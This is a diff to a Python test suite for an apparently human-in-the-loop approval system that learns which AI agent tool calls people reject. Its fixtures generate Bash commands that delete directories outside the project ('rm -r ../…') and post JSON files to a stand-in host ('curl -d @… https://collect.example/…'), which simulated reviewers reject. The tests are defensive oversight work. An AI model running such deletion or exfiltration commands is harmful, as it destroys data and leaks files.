@@ -6,6 +6,7 @@ import html
 import json
 import random
 import re
+from collections.abc import Callable
 from datetime import timedelta
 from typing import Any
 
@@ -27,26 +28,31 @@ def bash(kuro: Any, command: str, session: str = "now") -> Any:
     return ask(kuro, session=session, name="Bash", arguments={"command": command})
 
 
+def decide(rejects: Callable[[HeldItem], bool]) -> None:
+    """Have people decide what is held, an hour after the other."""
+    now = timezone.now()
+    Decision.objects.bulk_create(
+        Decision(
+            held=held, agent=held.agent, verdict="reject" if rejects(held) else "approve", by="person", item_version=1,
+            release_at=now, released_at=now, seq=number + 1, decided_at=now - timedelta(hours=200 - number),
+        )
+        for number, held in enumerate(HeldItem.objects.select_related("agent", "call").order_by("pk"))
+    )  # fmt: skip
+    HeldItem.objects.update(state="approved", decided_at=now)
+
+
 @pytest.fixture
 def decided(kuro: Any) -> None:
     """Have people reject what deletes outside the project, and what is sent to one host, in 120 sessions."""
-    draw, now = random.Random(1), timezone.now()
-    rows, agent = [], Agent.objects.get(public_id=kuro.id)
+    draw = random.Random(1)
     for number in range(120):
         name = "-".join(draw.sample(WORDS, 3))
         command = (
             f"rm -r ../{name}", f"rm -r {name}", f"curl -d @{name}.json https://collect.example/{name}",
             f"curl -d @{name}.json https://api.example/{name}",
         )[number % 4]  # fmt: skip
-        held = HeldItem.objects.get(public_id=bash(kuro, command, f"s{number}")["held"])
-        rows.append(
-            Decision(
-                held=held, agent=agent, verdict="approve" if number % 4 % 2 else "reject", by="person", item_version=1,
-                release_at=now, released_at=now, seq=number + 1, decided_at=now - timedelta(hours=200 - number),
-            )
-        )  # fmt: skip
-    Decision.objects.bulk_create(rows)
-    HeldItem.objects.update(state="approved", decided_at=now)
+        bash(kuro, command, f"s{number}")
+    decide(lambda held: "../" in held.text or "collect" in held.text)
 
 
 def told(client: Any, held: str) -> list[str]:
@@ -111,3 +117,30 @@ def test_calls_that_older_releases_stored_without_effects_still_teach(aurora: An
             del item["effects"], item["readable"]
         AgentResponse.objects.filter(pk=response.pk).update(verdict=json.dumps(verdict))
     assert learning.learn_and_keep(aurora, timezone.now())[0].learned.decisions == 120
+
+
+def test_values_of_arguments_are_learned_by_their_path_and_shape_and_told(
+    aurora: Any, kuro: Any, as_person: Any, alice: Any
+) -> None:
+    draw = random.Random(3)
+    for number in range(120):
+        eur = draw.choice((310, 350, 480)) if number % 2 else draw.choice((521, 733, 947))
+        arguments = {"payment": {"eur": eur}, "order": f"W-{number}", "token": ("swordfish", "blowfishy")[number % 2]}
+        ask(kuro, session=f"s{number}", name="refund", arguments=arguments)
+    decide(lambda held: held.call.arguments["payment"]["eur"] > 500)
+    in_force._orders.cache_clear()
+    learned = learning.learn_and_keep(aurora, timezone.now())[0].row
+    assert learned.found["order"] == "learned"
+    facts = learned.model.document["calls"]["facts"]
+    given = [name.rpartition("=")[0] for name in facts if name.startswith("given:")]
+    assert sorted(given) == ["given:refund/order", *["given:refund/payment.eur"] * 2], "of secrets there is none"
+    unseen = {"order": "W-4711", "token": "pufferfish"}
+    dear, cheap = (
+        ask(kuro, session="now", name="refund", arguments={"payment": {"eur": eur}, **unseen}) for eur in (869, 329)
+    )
+    assert dear["risk"] > cheap["risk"] + 0.3
+    known = told(as_person(alice), dear["held"])
+    assert "the argument “payment.eur” of refund (500–1,000): 60 of 60 rejected" in known
+    assert not any("token" in each for each in known)
+    for response in AgentResponse.objects.select_related("agent__team").filter(session="now"):
+        assert Replayer().replay(response).is_equal
